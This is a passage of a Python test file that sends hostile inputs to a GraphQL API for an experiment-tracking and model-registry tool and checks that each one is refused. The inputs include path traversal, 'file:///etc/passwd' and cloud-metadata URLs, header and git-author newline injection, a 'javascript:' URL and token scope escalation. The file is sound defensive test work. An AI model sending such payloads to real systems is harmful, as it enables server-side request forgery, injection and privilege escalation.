        for name, value in ID_GARBAGE
    ]
    + [
        # Rows Git keeps: refused as Git's, nothing deleted.
        Gql(
            "deleteExperiment-commit-row", DELETE_ROW, _input(id=lambda e: e.commit_row_id), IN_GIT
        ),
        Gql(
            "deleteExperiment-experiment-ref",
            DELETE_ROW,
            _input(id=lambda e: e.experiment_id),
            IN_GIT,
        ),
        Gql("deleteExperiment-id-is-project", DELETE_ROW, _input(id=alpha), BAD_ID),
        Gql(
            "deleteExperiment-read-scope",
            DELETE_ROW,
            _input(id=lambda e: e.commit_row_id),
            SCOPE,
            "READ",
        ),
        # Branches hidden by name: one unknown, a NUL, too many, nothing named.
        Gql(
            "hideRows-branch-unknown",
            HIDE,
            _input(projectId=alpha, branches=["main", "nope"]),
            NOT_FOUND,
        ),
        Gql("hideRows-branch-nul", HIDE, _input(projectId=alpha, branches=["ma\x00in"]), INVALID),
        Gql(
            "hideRows-branches-too-many",
            HIDE,
            _input(projectId=alpha, branches=[f"b{i}" for i in range(1001)]),
            INVALID,
        ),
        Gql("hideRows-nothing-named", HIDE, _input(projectId=alpha), INVALID),
        Gql(
            "hideRows-branch-100kb",
            HIDE,
            _input(projectId=alpha, branches=["b" * 100_000]),
            NOT_FOUND | TOO_LARGE,
        ),
    ]
    + [
        Gql("syncProject-id-is-experiment", SYNC, lambda e: {"id": e.experiment_id}, BAD_ID),
        Gql("deleteProject-id-is-experiment", DELETE, lambda e: {"id": e.experiment_id}, BAD_ID),
        Gql("mergePullRequest-id-is-project", MERGE, _input(pullRequestId=alpha), BAD_ID),
        Gql("createAccessToken-name-empty", TOKEN, _input(name="", scopes=["READ"]), INVALID),
        Gql("createAccessToken-name-nul", TOKEN, _input(name="a\x00b", scopes=["READ"]), INVALID),
        Gql(
            "createAccessToken-name-100kb",
            TOKEN,
            _input(name="n" * 100_000, scopes=["READ"]),
            INVALID,
        ),
        Gql("createAccessToken-no-scopes", TOKEN, _input(name="h", scopes=[]), INVALID),
        Gql(
            "createAccessToken-owner-email-nul",
            TOKEN,
            _input(name="h", scopes=["READ"], ownerName="x", ownerEmail="a\x00@b"),
            INVALID,
        ),
        Gql(
            "createAccessToken-owner-newline",
            TOKEN,
            _input(name="h", scopes=["READ"], ownerName="x\ncommitter evil", ownerEmail="a@b"),
            INVALID,
        ),
        Gql(
            "createAccessToken-owner-angle-brackets",
            TOKEN,
            _input(name="h", scopes=["READ"], ownerName="x", ownerEmail="a@b> evil <c@d"),
            INVALID,
        ),
        Gql(
            "createAccessToken-owner-name-without-email",
            TOKEN,
            _input(name="h", scopes=["READ"], ownerName="x"),
            INVALID,
        ),
        Gql(
            "createAccessToken-escalate-read-to-admin",
            TOKEN,
            _input(name="h", scopes=["ADMIN"]),
            SCOPE,
            "READ",
        ),
        Gql(
            "createAccessToken-escalate-models-to-projects",
            TOKEN,
            _input(name="h", scopes=["PROJECTS"]),
            SCOPE,
            "MODELS",
        ),
        Gql(
            "createAccessToken-owner-not-admin",
            TOKEN,
            _input(name="h", scopes=["READ"], ownerName="x", ownerEmail="a@b"),
            SCOPE,
            "READ",
        ),
        Gql(
            "configureForge-not-admin",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", repository="o/r"),
            SCOPE,
            "PROJECTS",
        ),
        Gql(
            "configureForge-api-url-http-remote",
            FORGE,
            _input(
                projectId=alpha, kind="GITHUB", apiUrl="http://api.example.com", repository="o/r"
            ),
            INVALID,
        ),
        Gql(
            "configureForge-api-url-file",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", apiUrl="file:///etc/passwd", repository="o/r"),
            INVALID,
        ),
        Gql(
            "configureForge-api-url-javascript",
            FORGE,
            _input(projectId=alpha, kind="GITEA", apiUrl="javascript:alert(1)", repository="o/r"),
            INVALID,
        ),
        Gql(
            "configureForge-api-url-nul",
            FORGE,
            _input(
                projectId=alpha, kind="GITLAB", apiUrl="https://x\x00.example.com", repository="o/r"
            ),
            INVALID,
        ),
        Gql(
            "configureForge-api-url-100kb",
            FORGE,
            _input(
                projectId=alpha,
                kind="GITLAB",
                apiUrl="https://example.com/" + "a" * 100_000,
                repository="o/r",
            ),
            INVALID,
        ),
        # configureRemote: DVC's option names on an allow-list, bounded strings, nothing
        # stored on a refusal (the secret key is never echoed: see test_remote_settings.py)
        Gql(
            "configureRemote-unknown-key",
            REMOTE,
            _input(projectId=alpha, settings={"profile": "prod"}),
            INVALID,
        ),
        Gql(
            "configureRemote-key-with-nul",
            REMOTE,
            _input(projectId=alpha, settings={"region\x00": "x"}),
            INVALID,
        ),
        Gql(
            "configureRemote-value-with-nul",
            REMOTE,
            _input(projectId=alpha, settings={"secret_access_key": "s3cr\x00t"}),
            INVALID,
        ),
        Gql(
            "configureRemote-value-oversize",
            REMOTE,
            _input(projectId=alpha, settings={"secret_access_key": "k" * 5_000}),
            INVALID,
        ),
        Gql(
            "configureRemote-value-500kb",
            REMOTE,
            _input(projectId=alpha, settings={"session_token": BIG}),
            INVALID,
        ),
        Gql(
            "configureRemote-too-many-keys",
            REMOTE,
            _input(projectId=alpha, settings={f"k{i}": "v" for i in range(1_000)}),
            INVALID,
        ),
        Gql(
            "configureRemote-not-an-object",
            REMOTE,
            _input(projectId=alpha, settings=["access_key_id", "x"]),
            INVALID,
        ),
        Gql(
            "configureRemote-number-value",
            REMOTE,
            _input(projectId=alpha, settings={"region": 5}),
            INVALID,
        ),
        Gql(
            "configureRemote-remote-name-dotdot",
            REMOTE,
            _input(projectId=alpha, remote="../core", settings={"region": "x"}),
            INVALID,
        ),
        Gql(
            "configureRemote-remote-name-nul",
            REMOTE,
            _input(projectId=alpha, remote="s\x00", settings={"region": "x"}),
            INVALID,
        ),
        Gql(
            "configureRemote-endpoint-file",
            REMOTE,
            _input(projectId=alpha, settings={"endpointurl": "file:///etc/passwd"}),
            BAD_URL,
        ),
        Gql(
            "configureRemote-endpoint-loopback",
            REMOTE,
            _input(projectId=alpha, settings={"endpointurl": "http://127.0.0.1:9000"}),
            REFUSED_REPO,
        ),
        Gql(
            "configureRemote-endpoint-metadata",
            REMOTE,
            _input(projectId=alpha, settings={"endpointurl": "https://169.254.169.254/"}),
            REFUSED_REPO,
        ),
        Gql(
            "configureRemote-not-admin",
            REMOTE,
            _input(projectId=alpha, settings={"region": "x"}),
            SCOPE,
            "PROJECTS",
        ),
        Gql(
            "configureRemote-unknown-project",
            REMOTE,
            _input(projectId="UHJvamVjdDo5OTk5OTk5", settings={"region": "x"}),
            BAD_ID,
        ),
        Gql(
            "configureForge-repository-dotdot",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", repository="../../admin"),
            INVALID,
        ),
        Gql(
            "configureForge-repository-nul",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", repository="o/r\x00"),
            INVALID,
        ),
        Gql(
            "configureForge-token-nul",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", repository="o/r", token="t\x00"),
            INVALID,
        ),
        Gql(
            "configureForge-token-newline",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", repository="o/r", token="t\r\nX-Evil: 1"),
            INVALID,
        ),
        Gql(
            "configureForge-project-garbage",
            FORGE,
            _input(projectId="garbage", kind="GITHUB", repository="o/r"),
            BAD_ID,
        ),
    ]
    + [
        Gql(
            f"setColumnGoal-{name}",
            GOAL,
            _input(projectId=alpha, column=column, goal="HIGHER"),
            INVALID,
        )
        for name, column in [
            ("column-not-an-id", "acc"),
            ("column-unknown-kind", "plot:metrics.json:acc"),
            ("column-nul", "metric:metrics.json:a\x00"),
            ("column-100kb", "metric:metrics.json:" + "a" * 100_000),
        ]
    ]
    + [
        Gql(
            "setColumnGoal-project-garbage",
            GOAL,
            _input(projectId="garbage", column="metric:metrics.json:acc", goal="LOWER"),
            BAD_ID,
        ),
    ]
)

# -- scopes: every mutation refused to tokens without its scope ------------------------------

_OUTSIDE = _input(repoUrl=lambda e: str(e.outside_root / "victim"))
SCOPE_CASES = [
    Gql(f"{name}-scope-{scope}", query, variables, SCOPE, scope)
    for name, query, variables, scopes in [
        ("createProject", CREATE, _OUTSIDE, ["READ", "EXPERIMENTS", "MODELS"]),
        ("syncProject", SYNC, lambda e: {"id": alpha(e)}, ["READ", "EXPERIMENTS", "MODELS"]),
        ("deleteProject", DELETE, lambda e: {"id": alpha(e)}, ["READ", "EXPERIMENTS", "MODELS"]),
        ("runExperiment", RUN, _run(paramChanges=_change()), ["READ", "EXPERIMENTS", "MODELS"]),
        (
            "createBranchFromExperiment",
            BRANCH_FROM,
            _input(experimentId=lambda e: e.experiment_id, branch="h-scope"),
            ["READ", "MODELS"],
        ),
        (
            "registerModelVersion",
            REGISTER,
            _reg(model="model-0", rev="main", version="v8.0.0"),
            ["READ", "PROJECTS", "EXPERIMENTS"],
        ),
        (
            "assignStage",
            ASSIGN,
            _reg(model="model-0", version="v1.0.0", stage="staging"),
            ["READ", "PROJECTS", "EXPERIMENTS"],
        ),
        (
            "unassignStage",
            UNASSIGN,
            _reg(model="model-0", version="v1.0.0", stage="prod"),
            ["READ", "PROJECTS", "EXPERIMENTS"],
        ),
        (
            "deregisterModelVersion",
            DEREGISTER,
            _reg(model="model-0", version="v1.0.0"),
            ["READ", "PROJECTS", "EXPERIMENTS"],
        ),
        ("deprecateModel", DEPRECATE, _reg(model="model-0"), ["READ", "PROJECTS", "EXPERIMENTS"]),
        (
            "configureForge",
            FORGE,
            _input(projectId=alpha, kind="GITHUB", repository="o/r"),
            ["READ", "MODELS", "EXPERIMENTS"],
        ),
        (
            "mergePullRequest",
            MERGE,
            _input(pullRequestId="UHVsbFJlcXVlc3Q6MQ=="),
            ["READ", "MODELS"],
        ),
        (
            "closePullRequest",
            CLOSE,
            _input(pullRequestId="UHVsbFJlcXVlc3Q6MQ=="),
            ["READ", "MODELS"],
        ),
        (
            "setColumnGoal",
            GOAL,
            _input(projectId=alpha, column="metric:metrics.json:acc", goal="HIGHER"),
            ["READ", "MODELS", "EXPERIMENTS"],
        ),
    ]
    for scope in scopes
]

CASES = CREATE_CASES + RUN_CASES + BRANCH_CASES + REGISTRY_CASES + OTHER_CASES + SCOPE_CASES


def test_case_names_are_unique() -> None:
    assert_unique_names(CASES)


@pytest.mark.parametrize("case", CASES, ids=str)
async def test_hostile_mutation(hostile: Hostile, case: Gql) -> None:
    await run_gql(hostile, case)
